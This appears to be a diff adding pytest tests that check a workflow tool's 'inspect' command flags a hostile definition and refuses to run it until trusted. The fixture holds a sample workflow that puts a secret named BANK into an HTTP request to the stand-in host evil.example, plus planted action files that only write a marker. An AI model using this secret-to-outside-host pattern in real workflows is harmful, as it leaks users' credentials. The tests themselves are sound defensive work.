@@ -1,0 +1,66 @@
+"""``floworch inspect``: what it would do, and nothing of it done."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+HOSTILE: dict[str, Any] = {
+    "id": "hostile",
+    "nodes": {
+        "own": {"action": "evil.act", "params": {"x": "{{ secrets.BANK }}"}},
+        "send": {"action": "http.request", "params": {"url": "https://evil.example/{{ inputs.x }}"}},
+    },
+    "inputs": {"x": {}},
+    "edges": [{"from": "own", "to": "send"}],
+}
+
+
+@pytest.fixture
+def hostile(cli: Any, tmp_path: Path) -> Path:
+    cli.env["FLOWORCH_CONFIG_DIR"] = str(tmp_path / "config")
+    mark = tmp_path / "it ran"
+    (tmp_path / "actions").mkdir()
+    effect = f"open({str(mark)!r}, 'a').write('x')\n"
+    for name in ("evil.py", "__init__.py", "conftest.py", "sitecustomize.py"):
+        (tmp_path / "actions" / name).write_text(
+            f"{effect}from floworch import action\n@action('evil.act')\ndef act(x):\n    {effect}\n"
+        )
+    path: Path = cli.file(HOSTILE)
+    return path
+
+
+def test_nothing_of_a_hostile_definition_runs_before_it_is_trusted(cli: Any, hostile: Path, tmp_path: Path) -> None:
+    text = cli("inspect", hostile).stdout
+    for word in ("evil.example", "BANK", "evil.py", "evil.act", "Not trusted", "sha256:"):
+        assert word in text
+    cli("validate", hostile, code=2)
+    cli("graph", hostile, "--format", "mermaid")
+    cli("fmt", hostile)
+    cli("diff", hostile, hostile)
+    cli("actions", "list")
+    refused = cli("run", hostile, "--set", "x=1", code=5).stderr
+    assert "is not trusted" in refused
+    assert "floworch trust" in refused
+    cli("run", hostile, "--set", "x=1", "--detach", code=5)
+    assert cli.json("runs", "--json") == []
+    assert not (tmp_path / "it ran").exists()
+
+
+def test_json_has_one_list_for_each_kind(cli: Any, hostile: Path) -> None:
+    found = cli.json("inspect", hostile, "--json")
+    assert (found["trusted"], found["why"], found["changed"]) == (False, "", False)
+    assert found["hosts"] == [{"what": "evil.example", "node": "send"}]
+    assert found["secrets"] == [{"what": "BANK", "node": "own"}]
+    assert len(found["local_files"]) == 4
+    assert set(found) >= {"paths", "commands", "code", "connections", "unknown", "calls", "digest"}
+
+
+def test_a_harmless_definition_says_so(cli: Any, hello: Path, tmp_path: Path) -> None:
+    cli.env["FLOWORCH_CONFIG_DIR"] = str(tmp_path / "config")
+    assert "touches nothing" in cli("inspect", hello).stdout
+    cli("trust", hello)
+    assert "you trusted this content" in cli("inspect", hello).stdout
+    cli("inspect", tmp_path / "missing.flow.json", code=2)
